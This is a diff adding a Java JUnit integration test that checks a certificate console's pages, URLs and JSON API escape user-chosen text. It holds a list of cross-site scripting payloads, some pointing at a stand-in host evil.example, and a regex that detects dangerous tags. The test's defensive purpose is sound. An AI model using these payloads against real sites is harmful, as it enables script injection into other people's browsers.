@@ -1,0 +1,125 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+package io.github.thumbkeeper.console;
+
+import static io.github.thumbkeeper.console.ConsoleTomcat.EDITOR;
+import static io.github.thumbkeeper.console.ConsoleTomcat.VIEWER;
+import static io.github.thumbkeeper.console.ConsoleTomcat.field;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.github.thumbkeeper.testkit.TestCertificate;
+import java.net.URLEncoder;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import java.util.Map;
+import java.util.regex.Pattern;
+import javax.security.auth.x500.X500Principal;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+/** Texts that a partner or a stranger has chosen are shown as texts: in pages, in attributes, in addresses and in JSON. */
+class XssIT {
+
+    private static final Pattern TAG = Pattern.compile("<(script|img|svg onload|iframe|body|a href=.?javascript|x |details|math|style|base|form id=x|/title|/textarea|marquee|video|input on|object|embed|link rel=.?import|meta http)", Pattern.CASE_INSENSITIVE);
+
+    private static ConsoleTomcat tomcat;
+
+    @BeforeAll
+    static void start() throws Exception {
+        tomcat = new ConsoleTomcat().withApplication().start();
+    }
+
+    @AfterAll
+    static void stop() throws Exception {
+        tomcat.close();
+    }
+
+    static List<String> payloads() {
+        return List.of(
+                "<script>xss7(1)</script>",
+                "\"><script>xss7(1)</script>",
+                "'><script>xss7(1)</script>",
+                "</title><script>xss7(1)</script>",
+                "</textarea><script>xss7(1)</script>",
+                "<img src=x onerror=xss7(1)>",
+                "\"><img src=x onerror=xss7(1)>",
+                "<svg onload=xss7(1)>",
+                "<svg><script>xss7(1)</script></svg>",
+                "</text></svg><script>xss7(1)</script>",
+                "<iframe srcdoc='<script>xss7(1)</script>'>",
+                "<body onload=xss7(1)>",
+                "<a href=javascript:xss7(1)>x</a>",
+                "javascript:xss7(1)",
+                "\" onfocus=xss7(1) autofocus x=\"",
+                "' onfocus=xss7(1) autofocus x='",
+                "` onfocus=xss7(1) `",
+                "<details open ontoggle=xss7(1)>",
+                "<math><mtext></mtext><script>xss7(1)</script></math>",
+                "<style>@import'//evil.example'</style>",
+                "<base href=//evil.example>",
+                "<form id=x action=//evil.example>",
+                "<input onfocus=xss7(1) autofocus>",
+                "<meta http-equiv=refresh content=0>",
+                "{{constructor.constructor('xss7(1)')()}}",
+                "${xss7(1)}",
+                "<!--#exec cmd=xss7-->",
+                "]]><script>xss7(1)</script>",
+                "&lt;script&gt;xss7(1)&lt;/script&gt;",
+                "<x hx-get=//evil.example hx-trigger=load>",
+                "<SCRIPT/SRC=//evil.example></SCRIPT>",
+                "\u202E<script>xss7(1)</script>");
+    }
+
+    @ParameterizedTest
+    @MethodSource("payloads")
+    void showsATextAsText(String payload) throws Exception {
+        String name = new X500Principal("CN=\"" + payload.replace("\\", "\\\\").replace("\"", "\\\"") + "\"").getName();
+        TestCertificate certificate = TestCertificate.named(name)
+                .uri("urn:" + payload.replaceAll("[^\\x21-\\x7E]", "")).dnsName(payload.replaceAll("[^\\x21-\\x7E]", ""))
+                .build();
+        tomcat.call(certificate);
+        String id = "sha256:" + certificate.sha256();
+
+        HttpResponse<String> preview = tomcat.upload(
+                EDITOR, payload + ".pem", certificate.pem().getBytes(StandardCharsets.US_ASCII), "");
+        check(preview, payload);
+        // The whole payload as a label: the list takes it, or says why not, as a text.
+        String version = field(preview.body(), "version");
+        HttpResponse<String> added = tomcat.post(
+                EDITOR,
+                "/console/add",
+                Map.of("version", version, "item.0", field(preview.body(), "item.0"), "take.0", "1", "label.0", payload, "roles", payload));
+        check(added, payload);
+        if (added.statusCode() != 303) {
+            added = tomcat.post(
+                    EDITOR,
+                    "/console/add",
+                    Map.of("version", version, "item.0", field(preview.body(), "item.0"), "take.0", "1", "label.0", "p" + certificate.sha256().substring(0, 8)));
+        }
+        assertThat(added.statusCode()).as(added.body()).isEqualTo(303);
+        String query = URLEncoder.encode(payload, StandardCharsets.UTF_8);
+        for (String path : List.of("/", "/entry?id=" + id, "/refused", "/history", "/expiry", "/?q=" + query, "/?notice=" + query + "&undo=" + query,
+                "/entry?id=" + query, "/explain?gate=" + query + "&pem=" + query, "/upload?refused=" + id)) {
+            check(tomcat.get(EDITOR, "/console" + path), payload);
+        }
+        check(tomcat.post(VIEWER, "/console/explain", Map.of("gate", payload, "pem", payload)), payload);
+        HttpResponse<String> json = tomcat.get(VIEWER, "/console/api/v1/entries?label=" + query);
+        assertThat(json.headers().firstValue("Content-Type")).hasValueSatisfying(type -> assertThat(type).startsWith("application/json"));
+        assertThat(json.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
+        String page = tomcat.get(EDITOR, "/console/entry?id=" + id).body();
+        tomcat.post(EDITOR, "/console/entry/remove", Map.of("id", id, "version", field(page, "version")));
+    }
+
+    private static void check(HttpResponse<String> response, String payload) {
+        String body = response.body();
+        assertThat(response.statusCode()).as(body).isLessThan(500);
+        String own = body.replaceAll("<script src=\"/console/assets/(htmx|console)\\.js\" defer></script>", "")
+                .replaceAll("<title>[^<]*</title>", "").replaceAll("</title>|</textarea>", "")
+                .replaceAll("<body>|<link rel=\"(icon|stylesheet)\"|<meta (charset|name)|<title id=\"timeline-title\">|<svg viewBox", "");
+        assertThat(TAG.matcher(own).results().map(each -> own.substring(each.start(), Math.min(own.length(), each.start() + 80)))).isEmpty();
+        assertThat(own).doesNotContainPattern("<[a-z][^<>\"]*(\"[^\"]*\"[^<>\"]*)* on[a-z]+=").doesNotContain("href=\"javascript");
+        assertThat(own).doesNotContain("\u202E");
+    }
+}
